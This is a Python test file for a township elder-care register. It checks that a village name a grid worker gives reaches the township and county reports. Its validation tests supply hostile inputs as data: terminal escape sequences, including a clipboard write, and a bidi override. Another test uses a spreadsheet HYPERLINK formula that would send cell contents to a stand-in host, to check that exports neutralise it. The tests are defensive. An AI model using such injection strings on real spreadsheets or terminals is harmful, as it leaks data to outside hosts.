"""The name a grid worker gives its village reaches the township and the county (a township-clerk walk).

A worker puts its grid in a village on its laptop (name and 12-digit code); the village record stays
there (a worker never writes the township's villages, storage/sync/authorise.py), and the township
showed the bare code 330521101201 in the Villages list, the monthly report's village rows and the
duplicates screen. The grid record now carries the name (`village_name`): it names a village the
township holds no named record of, and gives way to one it holds.
"""

from __future__ import annotations

import csv
import datetime as dt
import random

import pytest
from sqlmodel import select

from storage.core.china_day import china_today
from storage.core.errors import ValidationError
from storage.register.duplicates import review
from storage.register.idnumbers import fake_id_number
from storage.register.profile import resident_profile
from storage.register.villages import grid_villages, known_villages, set_grid_village
from storage.reports.monthly import monthly_report
from storage.sync.export import export_bundle
from storage.sync.merge import merge_paths
from tests.sync_helpers import elder, make_township
from tests.test_cli import run
from tests.test_export_merge import _device, _signed_by_worker

TODAY = dt.date(2026, 11, 24)
CODE = "330521101201"


def _village_rows(db) -> list[tuple[str, int]]:
    return [(r.shown_label, r.key_persons) for r in monthly_report(db, 2026, 11, today=TODAY).rows["village"]]


def _send(t, *workers) -> None:
    out = t.folder / "usb"
    paths = [export_bundle(w, out).path for w in workers]
    report = merge_paths(t.db, paths)
    assert [b.status for b in report.bundles] == ["new"] * len(workers), [b.message for b in report.bundles]


def test_the_name_a_worker_gives_its_village_is_the_townships_name_for_it(tmp_path):
    t = make_township(tmp_path)
    a, b = t.worker("王芳", "G01"), t.worker("李强", "G02")
    assert set_grid_village(a, "G01", "王家村", CODE) == CODE
    number = fake_id_number(random.Random(1), dt.date(1945, 3, 3), "M", "330521")
    mine = elder(a, "张三", id_number=number)
    elder(b, "张叁", id_number=number)  # the same card in the next grid: a pair for the duplicates screen
    _send(t, a, b)
    # the Villages screen and `gridcare villages`
    assert [(g.grid_code, g.village_id, g.village) for g in grid_villages(t.db)] == [
        ("G01", CODE, "王家村"), ("G02", "", "")]
    assert (CODE, "王家村") in known_villages(t.db)  # offered in the clerk's village dialog
    out = run("--db", str(t.db.path), "--lang", "zh_CN", "villages", tmp_path=tmp_path)
    assert out.returncode == 0 and "王家村" in out.stdout and CODE not in out.stdout
    # the monthly report's village rows, its key persons' village, the duplicates screen, the resident's page
    assert _village_rows(t.db) == [("王家村", 1), ("No village", 1)]
    report = monthly_report(t.db, 2026, 11, today=TODAY)
    assert {p.village for p in report.people if p.grid_code.endswith("G01")} == {"王家村"}
    [(_pair, first, second)], _merged = review(t.db)
    assert {first.village, second.village} == {"王家村", ""}
    assert resident_profile(t.db, mine.id, TODAY).village == "王家村"


def test_a_bundle_of_before_the_name_travelled_still_merges_and_shows_the_code(tmp_path):
    """A grid event without `village_name` (every bundle of schema 10): merged, the code shown as before."""
    t = make_township(tmp_path)
    b = t.worker("李强", "G02")
    device = _device(b)
    ev = {"id": f"{device}-7", "record_type": "grid", "record_id": "330521101-G02", "hlc": 7, "device_id": device,
          "fields": {"village_code": CODE}, "base_hlc": 0, "author": "李强"}
    [outcome] = merge_paths(t.db, [_signed_by_worker(t, b, "李强", [ev], tmp_path / "old.gcb")]).bundles
    assert outcome.status == "new", outcome.message
    assert [(g.village_id, g.village) for g in grid_villages(t.db)] == [(CODE, CODE)]


def test_a_laptop_that_set_its_village_before_the_upgrade_names_it_in_its_next_bundle(tmp_path):
    """Workers who put their grid in a village before the grid carried the name: their next export carries it
    (from the village record on the laptop), once; the township then names the village."""
    from storage.core.changes import writer
    from storage.core.models import Event

    t = make_township(tmp_path)
    a = t.worker("王芳", "G01")
    with a.write() as s:
        w = writer(s)
        w.write("village", CODE, {"name": "王家村", "township_code": "330521101"})
        w.write("grid", "330521101-G01", {"village_code": CODE})
    elder(a, "张三")
    _send(t, a)
    assert [g.village for g in grid_villages(t.db)] == ["王家村"]
    with a.session() as s:
        grid_events = list(s.exec(select(Event).where(Event.record_type == "grid")))
        named = [ev.fields for ev in grid_events if "village_name" in ev.fields]
    assert named == [{"village_name": "王家村"}]
    elder(a, "李四")
    export_bundle(a, tmp_path / "second")  # nothing more to say about the village
    with a.session() as s:
        assert len(list(s.exec(select(Event).where(Event.record_type == "grid")))) == len(grid_events)


def test_a_village_record_of_the_township_wins_over_the_workers_name(tmp_path):
    t = make_township(tmp_path)
    a, b = t.worker("王芳", "G01"), t.worker("李强", "G02")
    elder(a, "张三")
    elder(b, "李四")
    _send(t, a, b)
    # the clerk put G02 in the village by its code only: a record without a name gives way to the worker's
    set_grid_village(t.db, "G02", None, CODE)
    set_grid_village(a, "G01", "王家庄", CODE)
    _send(t, a)
    assert [g.village for g in grid_villages(t.db)] == ["王家庄", "王家庄"]
    assert _village_rows(t.db) == [("王家庄", 2)]
    # the clerk names it: the township's record wins, whatever the worker calls it later
    set_grid_village(t.db, "G02", "王家村", CODE)
    set_grid_village(a, "G01", "王家湾", CODE)
    elder(a, "王五")
    _send(t, a)
    assert [g.village for g in grid_villages(t.db)] == ["王家村", "王家村"]
    assert _village_rows(t.db) == [("王家村", 3)]


def test_the_clerk_who_names_the_workers_village_puts_a_grid_in_the_same_code(tmp_path):
    """Named without its code, the village the township knows only from G01's worker: the same village, not a
    new code-less one (two rows 王家村 in the report)."""
    t = make_township(tmp_path)
    a, b = t.worker("王芳", "G01"), t.worker("李强", "G02")
    set_grid_village(a, "G01", "王家村", CODE)
    elder(a, "张三")
    elder(b, "李四")
    _send(t, a, b)
    assert set_grid_village(t.db, "G02", "王家村") == CODE
    assert _village_rows(t.db) == [("王家村", 2)]


def test_the_names_of_villages_from_records_and_grids():
    from storage.core.places import village_names

    records = [("330521101201", "王家村"), ("330521101202", "330521101202"), ("330521101-柳溪村", "柳溪村")]
    given = [
        ("330521101-G01", "330521101201", "王家庄"),  # the township's record has a name: it wins
        ("330521101-G02", "330521101202", "李家村"),  # a record named by its code only: the grid's name
        ("330521101-G03", "330521101203", "赵村"), ("330521101-G04", "330521101203", "赵家村"),
        ("330521101-G05", "330521101203", "赵家村"),  # grids disagree: the name most give
        ("330521101-G07", "330521101204", "钱村"), ("330521101-G06", "330521101204", "孙村"),  # a tie: the first grid's
        ("330521101-G08", "330521102201", "冒名村"),  # another township's code: not this grid's to name
        ("330521101-G09", "330521101-柳溪村", "别名"),  # a code-less id carries its own name
    ]
    assert village_names(records, given) == {
        "330521101201": "王家村", "330521101202": "李家村", "330521101-柳溪村": "柳溪村",
        "330521101203": "赵家村", "330521101204": "孙村"}


@pytest.mark.parametrize("name", ["王家村\x1b[2J\x1b]52;c;eA==\x07", "王家\n村", "王家\u202e村", "王" * 41,
                                  "王" * 10_000, " 王家村", "王家  村"],
                         ids=["ESC", "line break", "reversed", "41 characters", "10,000 characters", "leading space",
                              "two spaces"])
def test_a_village_name_no_form_could_give_is_refused_at_the_township(tmp_path, name):
    t = make_township(tmp_path)
    b = t.worker("李强", "G02")
    device = _device(b)
    ev = {"id": f"{device}-7", "record_type": "grid", "record_id": "330521101-G02", "hlc": 7, "device_id": device,
          "fields": {"village_code": CODE, "village_name": name}, "base_hlc": 0, "author": "李强"}
    [outcome] = merge_paths(t.db, [_signed_by_worker(t, b, "李强", [ev], tmp_path / "bad.gcb")]).bundles
    assert outcome.status == "refused" and "Village name" in outcome.message and name not in outcome.message
    assert [g.village for g in grid_villages(t.db)] in ([], [""])


@pytest.mark.parametrize("name", ["王家村\x1b[2J", "王家\u202e村", "王" * 41], ids=["ESC", "reversed", "41 characters"])
def test_a_worker_cannot_type_a_name_its_township_would_refuse(tmp_path, name):
    t = make_township(tmp_path)
    a = t.worker("王芳", "G01")
    with pytest.raises(ValidationError) as caught:
        set_grid_village(a, "G01", name, CODE)
    assert caught.value.field == "village_name"


def test_a_grid_put_in_another_townships_village_is_refused_at_the_township(tmp_path):
    """Merged, it named a village of 330521102, and the county then refused the township's whole bundle."""
    t = make_township(tmp_path)
    b = t.worker("李强", "G02")
    device = _device(b)
    for n, village in enumerate(("330521102201", "330521102-王家村"), start=1):
        ev = {"id": f"{device}-{n}", "record_type": "grid", "record_id": "330521101-G02", "hlc": n, "device_id": device,
              "fields": {"village_code": village}, "base_hlc": 0, "author": "李强"}
        [outcome] = merge_paths(t.db, [_signed_by_worker(t, b, "李强", [ev], tmp_path / f"other-{n}.gcb")]).bundles
        assert outcome.status == "refused" and "another township" in outcome.message


def test_a_formula_for_a_village_name_is_text_in_the_report_files(tmp_path):
    from openpyxl import load_workbook

    from storage.core.models import Identity
    from storage.reports.files import save_report

    formula = '=HYPERLINK("http://e.vil/?"&B5,"看")'
    assert len(formula) <= 40
    t = make_township(tmp_path)
    b = t.worker("李强", "G02")
    elder(b, "李四")
    _send(t, b)
    device = _device(b)
    with b.session() as s:
        stamp = s.get(Identity, 1).last_hlc + 1  # after the grid's own events: this one wins
    ev = {"id": f"{device}-{stamp}", "record_type": "grid", "record_id": "330521101-G02", "hlc": stamp,
          "device_id": device, "fields": {"village_code": CODE, "village_name": formula}, "base_hlc": 0, "author": "李强"}
    [outcome] = merge_paths(t.db, [_signed_by_worker(t, b, "李强", [ev], tmp_path / "formula.gcb")]).bundles
    assert outcome.status == "new", outcome.message
    report = monthly_report(t.db, 2026, 11, today=TODAY)
    assert [r.shown_label for r in report.rows["village"]] == [formula]
    save_report(t.db, report, tmp_path / "r.xlsx")
    cells = [c for ws in load_workbook(tmp_path / "r.xlsx").worksheets for row in ws.iter_rows() for c in row]
    assert formula in {c.value for c in cells} and all(c.data_type != "f" for c in cells)
    for path in save_report(t.db, report, tmp_path / "r.csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            fields = [f for row in csv.reader(fh) for f in row]
        assert formula not in fields  # never a bare formula cell
        assert all(not f.startswith("=") or f.startswith('="') for f in fields)


def test_the_county_names_the_village_as_its_township_does(tmp_path, db_target):
    from tests.county_helpers import make_county, record_dump
    from tests.county_helpers import make_township as county_township

    county = make_county(db_target, tmp_path / "county.pub")
    t = county_township(tmp_path, "330521101", tmp_path / "county.pub", county=county)
    w = t.worker("G01", "王芳")
    set_grid_village(w, "G01", "王家村", CODE)
    elder(w, "张三")
    t.collect()
    report = merge_paths(county, [t.to_county(tmp_path / "up")])
    assert report.refused == []
    assert record_dump(county) == record_dump(t.db)
    assert [g.village for g in grid_villages(county)] == ["王家村"]
    rows = monthly_report(county, 2026, 11, today=TODAY).rows["village"]
    assert [(r.shown_label, r.key_persons) for r in rows] == [("镇101王家村", 1)]  # below its township's name
    county.dispose()
    t.close()


def test_the_townships_emergency_report_names_the_coded_village_of_the_grid(tmp_path):
    """It named only a code-less village the resident itself carried: a resident of a grid in 330521101201 said
    "Village: -" (the resident carries no village of its own; the reports take the grid's)."""
    from storage.register.urgent_report import report_for
    from storage.register.visits import log_visit

    t = make_township(tmp_path)
    w = t.worker("王芳", "G04")
    set_grid_village(w, "G04", "桃园村", "330521101204")
    r = elder(w, "尹秀娥")
    today = china_today()
    v = log_visit(w, r.id, {"visit_date": today, "risk_after": "emergency", "notes": "独自在家摔倒"}, today=today)
    _send(t, w)
    text = report_for(t.db, "visit:" + v.id).text
    assert "Village: 桃园村" in text and "新市镇 桃园村 G04网格" in text, text
